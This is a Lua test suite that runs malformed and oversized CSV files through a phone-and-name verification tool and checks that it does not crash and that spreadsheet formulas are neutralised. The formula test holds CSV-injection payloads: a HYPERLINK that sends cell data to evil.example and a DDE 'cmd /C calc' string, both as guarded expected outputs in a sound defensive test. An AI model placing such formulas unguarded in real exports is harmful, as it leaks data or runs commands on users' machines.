-- Hostile input files (tests/data/hostile/) through the bundled flow,
-- `qxtv run scripts/verify_csv.lua FILE --out DIR`, against a simulator.
-- For every file: no crash, peak memory under 200 MB (/usr/bin/time),
-- every data row in exactly one output (by its `row` number) with a reason
-- when it was not verified, no cell an unguarded spreadsheet formula, and
-- for a file that cannot be read at all, exit status 2, a message naming
-- the problem, and nothing sent. The big files (a 10 MB line, 1 GB sparse
-- files) are made here and removed afterwards.
local cjson = require("cjson")
local csv = require("qxt.csv")
local sim = require("tests.helpers.sim")

local DIR = "tests/data/hostile/"
local OUTCOMES = { "consistent", "inconsistent", "invalid", "unverified" }
-- tests/tools/valgrind.sh lifts the limit: memcheck's own memory would count.
local MAX_RSS_MB = tonumber(os.getenv("QXTV_RSS_LIMIT_MB") or "200")

local tmpdir = sim.tmpdir

local function read_rows(path)
  local reader = csv.open(path, { columns = false, encoding = "utf-8" })
  if not reader then return nil end
  local rows = {}
  for row in reader:rows() do rows[#rows + 1] = row end
  reader:close()
  return rows
end

-- Runs the flow on input; returns a table with status, out, err, rss_mb,
-- outputs (rows by outcome), summary and the output directory.
local function run_flow(s, input, extra)
  local dir = tmpdir()
  local rss = os.tmpname()
  local cmd = ("timeout 300 /usr/bin/time -f %%M -o %s %s run scripts/verify_csv.lua %s --out %s --quiet %s")
    :format(rss, sim.qxtv(), sim.quote(input), dir .. "/out", extra or "")
  local out, err, status = sim.run(cmd, { QXT_ENDPOINT = s.endpoint })
  local r = { status = status, out = out, err = err, dir = dir, outputs = {} }
  r.rss_mb = tonumber((sim.read_file(rss) or ""):match("(%d+)%s*$") or "0") / 1024
  os.remove(rss)
  for _, o in ipairs(OUTCOMES) do r.outputs[o] = read_rows(dir .. "/out/" .. o .. ".csv") end
  local summary = sim.read_file(dir .. "/out/summary.json")
  r.summary = summary and cjson.decode(summary)
  return r
end

local function cleanup(r) os.execute("rm -rf " .. r.dir) end

local function no_crash(r)
  assert.is_true(r.status == 0 or r.status == 2, "exit status " .. tostring(r.status) .. ": " .. r.err)
  assert.is_nil(r.err:find("traceback", 1, true), r.err)
  assert.is_nil(r.err:find("qxtv:", 1, true), r.err)
  assert.is_true(r.rss_mb > 0 and r.rss_mb < MAX_RSS_MB, ("peak RSS %.1f MB"):format(r.rss_mb))
end

-- A cell a spreadsheet would run: starts with = @ tab CR, or + - that do
-- not start a plain number (-8 and +86 are numbers to a spreadsheet).
local function formula(v)
  return v:find("^[=@\t\r]") or (v:find("^[-+]") and not v:find("^[-+]%d+%.?%d*$"))
end

-- Every data row 1..n in exactly one output; returns row number -> {
-- outcome, row }. Checks the reasons and the formula guard on the way.
local function accounted(r, n)
  local where = {}
  for _, o in ipairs(OUTCOMES) do
    assert.is_not_nil(r.outputs[o], o .. ".csv is missing")
    for _, row in ipairs(r.outputs[o]) do
      local k = math.tointeger(tonumber(row.row))
      assert.is_not_nil(k, "an output row without its row number")
      assert.is_nil(where[k], ("row %d is in %s and %s"):format(k, tostring(where[k] and where[k].outcome), o))
      where[k] = { outcome = o, row = row }
      if o == "invalid" or o == "unverified" then
        assert.is_true(#row.reason > 0, "row " .. k .. " has no reason")
      end
      assert.is_truthy(utf8.len(row.reason), "row " .. k .. ": the reason is not UTF-8")
      for col, v in pairs(row) do
        assert.is_falsy(formula(v), ("row %d, column %s: unguarded formula %q"):format(k, col, v))
      end
    end
  end
  for k = 1, n do assert.is_not_nil(where[k], "row " .. k .. " was lost") end
  local count = 0
  for _ in pairs(where) do count = count + 1 end
  assert.are.equal(n, count, "rows that were never in the input")
  assert.are.equal(n, r.summary.records)
  return where
end

-- Per file: the outcome of each data row in order, reasons to find (by
-- row number) for the rejected ones, and options for verify_csv.
local CASES = {
  { "wrong_columns.csv", { "consistent", "invalid", "invalid", "invalid", "invalid" },
    { [2] = "has 2 fields, header has 4", [3] = "has 6 fields", [4] = "has 1 field,", [5] = "mobile is empty" } },
  { "duplicate_header.csv", { "consistent", "consistent" }, {}, "--mobile-column mobile_2 --name-column name_2" },
  { "nul_bytes.csv", { "invalid", "invalid", "consistent", "invalid" },
    { [1] = "unexpected character '\\x00'", [2] = "control character %(U%+0000%)", [4] = "has 1 field" } },
  { "invalid_encoding.csv", { "invalid", "invalid", "consistent" },
    { [1] = "row 1 %(line 2%) has a byte that is not UTF%-8 in column 'name' %(0xFF at byte offset 30 ",
      [2] = "row 2 %(line 3%) has a byte that is not UTF%-8 in column 'name' %(0xC0 at byte offset 49 " },
    "--encoding utf-8" },
  -- Said explicitly, GB18030 it is: the UTF-8 name of row 3 reads as other characters.
  { "invalid_encoding.csv", { "invalid", "invalid", "inconsistent" },
    { [1] = "U%+FFFD", [2] = "U%+FFFD" }, "--encoding gb18030" },
  { "unterminated_quote.csv", { "invalid", "consistent", "consistent" }, { [1] = "unterminated quote" } },
  { "unterminated_at_end.csv", { "consistent", "invalid" }, { [2] = "unterminated quote" } },
  { "quotes_everywhere.csv", { "inconsistent", "invalid", "invalid", "invalid" },
    { [2] = "unexpected character '\"'", [3] = "text after a closing quote", [4] = "control character" } },
  { "formula.csv", { "invalid", "consistent", "invalid", "invalid", "consistent" },
    { [1] = "digit", [3] = "digit", [4] = "unexpected character '='" } },
  { "name_lengths.csv", { "inconsistent", "invalid", "inconsistent", "invalid" },
    { [2] = "name has 60 characters, maximum 30", [4] = "name has 66 characters" } },
  { "cjk_beyond_bmp.csv", { "consistent", "consistent", "consistent", "consistent", "consistent" } },
  { "cjk_beyond_bmp_gb18030.csv", { "consistent", "consistent", "consistent", "consistent", "consistent" } },
  { "crlf_bom.csv", { "consistent", "inconsistent" } },
  { "mobile_spellings.csv", (function()
      local valid = { [15] = false, [17] = false, [18] = false, [19] = false, [20] = false, [21] = false,
                      [22] = false, [23] = false, [24] = false, [25] = false, [26] = false, [27] = false,
                      [29] = false, [30] = false, [32] = false, [33] = false, [34] = false }
      local t = {}
      for i = 1, 34 do t[i] = valid[i] == false and "invalid" or "consistent" end
      return t
    end)(),
    { [15] = "scientific notation", [17] = "unexpected character '''", [18] = "10 digits",
      [19] = "12 digits", [20] = "must start with 13%-19", [22] = "letter 'O'", [23] = "mobile is empty" } },
}

describe("hostile input files through verify_csv", function()
  local s
  setup(function() s = sim.start{ "--people", DIR .. "people.csv" } end)
  teardown(function() s:stop() end)
  before_each(function() s:reset() end)

  for _, case in ipairs(CASES) do
    local file, expect, reasons, args = case[1], case[2], case[3] or {}, case[4]
    it(file .. (args and " " .. args or "") .. ": every row accounted for, as expected", function()
      local r = run_flow(s, DIR .. file, args)
      no_crash(r)
      assert.are.equal(0, r.status, r.err)
      local where = accounted(r, #expect)
      for k, outcome in ipairs(expect) do
        assert.are.equal(outcome, where[k].outcome, ("%s row %d (%s)"):format(file, k, where[k].row.reason))
      end
      for k, pattern in pairs(reasons) do
        assert.matches(pattern, where[k].row.reason, 1)
      end
      assert.are.equal(0, s:stats().repeated_charged_pairs)
      cleanup(r)
    end)
  end

  it("formula cells come back with the apostrophe guard, numbers stay numbers", function()
    local r = run_flow(s, DIR .. "formula.csv")
    local where = accounted(r, 5)
    assert.are.equal("'=1+1", where[1].row.note)
    assert.are.equal("'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", where[1].row.name)
    assert.are.equal("'+cmd|' /C calc'!A0", where[2].row.note)
    assert.are.equal("'@SUM(A1:A9)", where[3].row.name)
    assert.are.equal("'-2+3", where[3].row.note)
    assert.are.equal("'\t=tab", where[4].row.note)
    assert.are.equal("-8", where[5].row.note)
    cleanup(r)
  end)

  it("characters beyond the BMP reach the provider intact, from UTF-8 and from GB18030", function()
    for _, file in ipairs{ "cjk_beyond_bmp.csv", "cjk_beyond_bmp_gb18030.csv" } do
      local r = run_flow(s, DIR .. file)
      local names = {}
      for _, row in ipairs(r.outputs.consistent) do names[#names + 1] = row.name end
      table.sort(names)
      assert.are.same({ "陈𬌗", "𠀀", "𡃁妹", "𪚥", "𰻝𰻝面" }, names)
      cleanup(r)
    end
  end)

  it("header only: no rows, empty outputs, exit 0", function()
    local r = run_flow(s, DIR .. "header_only.csv")
    no_crash(r)
    assert.are.equal(0, r.status, r.err)
    accounted(r, 0)
    cleanup(r)
  end)

  for _, case in ipairs{
    { "empty.csv", "no header row" },
    { "blank_lines.csv", "no header row" },
    { "no_header.csv", "no mobile column %(looked for mobile, phone, 手机号, 手机号码, 手机%); no name column" },
    { "no_such_file.csv", "No such file or directory" },
    { "", "Is a directory" },                            -- the directory itself
    { "duplicate_header.csv", "the header is ambiguous: 'mobile' %(column 2%) and 'mobile_2' %(column 4%) "
      .. "both look like the mobile column; say which with %-%-mobile%-column mobile_2" },
    { "invalid_encoding.csv", "is neither UTF%-8 nor GB18030: line 2 %(byte offset 30%) is not UTF%-8.*"
      .. "Fix the file.*%-%-encoding utf%-8.*%-%-encoding gb18030" },
  } do
    it((case[1] ~= "" and case[1] or "a directory") .. ": a file-level message, exit 2, nothing sent", function()
      local r = run_flow(s, DIR .. case[1])
      no_crash(r)
      assert.are.equal(2, r.status)
      assert.matches(case[2], r.err)
      assert.matches(case[1], r.err, 1, true)
      assert.are.equal(0, s:stats().requests)
      cleanup(r)
    end)
  end
end)

describe("big hostile files, made at test time", function()
  local s, dir
  setup(function()
    s = sim.start{ "--people", DIR .. "people.csv" }
    dir = tmpdir()
  end)
  teardown(function()
    s:stop()
    os.execute("rm -rf " .. dir)
  end)

  it("a 10 MB single line: that row is rejected, the rows around it are verified", function()
    local path = dir .. "/long_line.csv"
    local f = assert(io.open(path, "wb"))
    f:write("id,mobile,name\nA1,13972565391,张三\nA2,18819079212,")
    local block = string.rep("x", 1024 * 1024)
    for _ = 1, 10 do f:write(block) end
    f:write("\nA3,13800138000,李四\n")
    f:close()
    local r = run_flow(s, path)
    no_crash(r)
    assert.are.equal(0, r.status, r.err)
    local where = accounted(r, 3)
    assert.are.equal("consistent", where[1].outcome)
    assert.are.equal("invalid", where[2].outcome)
    assert.matches("row 2 %(line 3%) is longer than 1048576 bytes", where[2].row.reason)
    assert.are.equal("consistent", where[3].outcome)
    os.remove(path)
    cleanup(r)
  end)

  it("a 1 GB sparse file after a header and a row: bounded memory, the NULs are one rejected row", function()
    local path = dir .. "/sparse.csv"
    local f = assert(io.open(path, "wb"))
    f:write("mobile,name\n13972565391,张三\n")
    f:close()
    assert(os.execute("truncate -s 1G " .. path))
    local r = run_flow(s, path)
    os.remove(path)
    no_crash(r)
    assert.are.equal(0, r.status, r.err)
    local where = accounted(r, 2)
    assert.are.equal("consistent", where[1].outcome)
    assert.matches("is longer than 1048576 bytes", where[2].row.reason)
    cleanup(r)
  end)

  it("a 1 GB sparse file and nothing else: a clear message, exit 2, nothing sent", function()
    local path = dir .. "/sparse_only.csv"
    assert(os.execute("truncate -s 1G " .. path))
    s:reset()
    local r = run_flow(s, path)
    os.remove(path)
    no_crash(r)
    assert.are.equal(2, r.status)
    assert.matches("the header %(line 1%) is longer than 1048576 bytes", r.err)
    assert.are.equal(0, s:stats().requests)
    cleanup(r)
  end)
end)
